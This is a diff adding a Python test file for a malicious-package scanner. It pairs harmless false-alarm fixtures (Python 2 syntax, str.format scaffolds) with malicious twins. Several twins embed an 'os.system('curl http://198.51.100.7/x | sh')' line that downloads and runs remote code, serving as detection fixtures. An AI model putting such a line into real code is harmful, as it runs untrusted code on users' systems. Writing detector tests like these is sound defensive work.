@@ -1,0 +1,98 @@
+"""Round 12's false-alarm classes (helper A), each a harmless fixture beside a malicious twin.
+
+Every harmless fixture (how a popular release does the thing) must stay below high; every twin
+(the same shape doing harm) must still be high or critical with the threat named for it.
+Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
+"""
+
+from __future__ import annotations
+
+from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan
+
+
+def _unread(result) -> dict[str, str]:
+    return {f.path: f.severity for f in result.findings if f.capability == "scan.unread"}
+
+
+def _sub(tmp_path, name: str):
+    (tmp_path / name).mkdir()
+    return tmp_path / name
+
+
+# ---------------------------------------------------------------- Python 2's <> and True = ...
+# BeautifulSoup 3 stops Python 3 on purpose with ``"very old release" <> "use bs4"``; wsgiref
+# 0.1.2 keeps 2.2 code running with ``True = not None``. Python 3 rejects both on every
+# version (``<>`` only reads under ``from __future__ import barry_as_FLUFL``): old code, unread
+# at medium. A ``<>`` only inside a string, or a file that turns ``<>`` on, stays unread high.
+BS3 = (
+    "import re\n\n\ndef _warn():\n"
+    '    "You\'re trying to run a very old release under Python 3."<>"Use version 4."\n\n\n'
+    "class Tag:\n    pass\n"
+)
+WSGIREF = (
+    "try:\n    True\nexcept NameError:\n    True = not None\n    False = not True\n\n\n"
+    "def guess(path_parts):\n    return [p for p in path_parts if p and p<>'.']\n"
+)
+
+
+def test_python2_diamond_and_true_assignment_are_old_code(tmp_path):
+    result = scan(
+        {"pkg/__init__.py": "X = 1\n", "pkg/soup.py": BS3, "pkg/util.py": WSGIREF}, tmp_path
+    )
+    assert _unread(result) == {"pkg/soup.py": "medium", "pkg/util.py": "medium"}
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
+
+
+def test_a_diamond_only_in_a_string_or_under_barry_as_flufl_stays_unread_high(tmp_path):
+    in_string = "import os\nSEP = '<>'\nos.system('id' +\n"
+    barry = "from __future__ import barry_as_FLUFL\nimport os\nif 1 <> 2:\n    os.system('id')\n"
+    result = scan(
+        {"pkg/__init__.py": "X = 1\n", "pkg/a.py": in_string, "pkg/b.py": barry}, tmp_path
+    )
+    assert _unread(result) == {"pkg/a.py": "high", "pkg/b.py": "high"}
+    assert_high_with("unparsed", result, {"disguise.unread"})
+
+
+def test_a_payload_in_a_python2_module_is_still_found_by_the_pattern_rules(tmp_path):
+    module = WSGIREF + "import os\nos.system('curl http://198.51.100.7/x | sh')\n"
+    result = scan({"pkg/__init__.py": "from pkg import util\n", "pkg/util.py": module}, tmp_path)
+    assert _unread(result) == {"pkg/util.py": "medium"}
+    assert result.risk.level in HIGH, [t.id for t in result.threats]
+
+
+# ---------------------------------------------------------------- str.format project templates
+# connector-py's scaffold ships ``from {name}.integration import integration`` and ``class
+# {pascal}Settings(BaseModel):``, filled in by ``content.format(name=...)``. As they are, a set
+# display stands where a module or class name must be: no Python reads them. A ``{x}`` on a
+# line broken elsewhere is no such field, and a payload in a template is still found.
+SCAFFOLD = {
+    "pkg/__init__.py": "X = 1\n",
+    "pkg/scaffold/templates/app_name/main.py": (
+        "from connector.cli import run\n\nfrom {name}.integration import integration\n\n\n"
+        "def main():\n    run(integration)\n"
+    ),
+    "pkg/scaffold/templates/app_name/settings.py": (
+        "from pydantic import BaseModel\n\n\nclass {pascal}Settings(BaseModel):\n    key: str\n"
+    ),
+    "pkg/scaffold/templates/app_name/client.py": "def get_{name}(x):\n    return x\n",
+}
+
+
+def test_str_format_fields_standing_for_names_are_a_template(tmp_path):
+    result = scan(SCAFFOLD, tmp_path)
+    templates = {p: "medium" for p in SCAFFOLD if p != "pkg/__init__.py"}
+    assert _unread(result) == templates
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
+
+
+def test_a_field_away_from_the_error_is_no_template_and_a_payload_in_one_is_found(tmp_path):
+    broken = "import os\nNAMES = {name}\nos.system('id' +\n"
+    result = scan({"pkg/__init__.py": "X = 1\n", "pkg/tool.py": broken}, tmp_path)
+    assert _unread(result) == {"pkg/tool.py": "high"}
+    assert_high_with("broken", result, {"disguise.unread"})
+    payload = SCAFFOLD["pkg/scaffold/templates/app_name/main.py"] + (
+        "import os\nos.system('curl http://198.51.100.7/x | sh')\n"
+    )
+    files = {"pkg/__init__.py": "X = 1\n", "pkg/scaffold/templates/app_name/main.py": payload}
+    result = scan(files, _sub(tmp_path, "b"))
+    assert result.risk.level in HIGH, [t.id for t in result.threats]
